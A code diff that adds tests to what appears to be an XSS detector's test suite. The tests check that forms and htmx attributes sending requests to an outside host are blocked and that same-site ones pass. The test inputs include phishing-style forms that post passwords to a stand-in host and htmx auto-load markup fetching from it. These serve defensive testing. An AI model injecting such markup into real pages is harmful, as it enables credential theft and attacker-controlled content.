@@ -410,3 +410,23 @@ describe('xss: CSS injected into a style sheet that loads from another site', ()
   });
   it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
 });
+
+describe('xss: a form action or htmx request attribute pointing to another site', () => {
+  // a form is an ordinary tag now; its action (or hx-get hx-post hx-put hx-patch hx-delete) sending to //host or
+  // http(s)://host is a phishing form or markup fetched from the attacker into the page
+  const hits = ['<form action=//q.test/login><input name=p type=password>', '<form action = "https://q.test/">', '<qq hx-get="//q.test/x" hx-trigger=load>',
+    '<qq data-hx-post=http://q.test/a>', "<form method=post action='HTTPS://q.test'>", '<qq hx-delete="//q.test">'];
+  it.each(hits)('%s is blocked as a dangerous tag', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).toContain('xss.dangerous-tag');
+    expect(r.blocked).toBe(true);
+  });
+  const clean = ['<form action="/search" method="get"><input name="q"><button>Search</button></form>', '<qq hx-get="/search" hx-trigger="keyup">',
+    '<a href="/x?action=//q">', '<input value="action=//q">', 'action=//q.test', '<form action=/a//b>', '<qq hx-target="//q">', '<qq hx-get=httpx://q>'];
+  it.each(clean)('%s is no dangerous tag', (input) => {
+    const r = d.scan(input, { context: 'query' });
+    expect(ruleIds(r)).not.toContain('xss.dangerous-tag');
+    expect(r.blocked).toBe(false);
+  });
+  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
+});
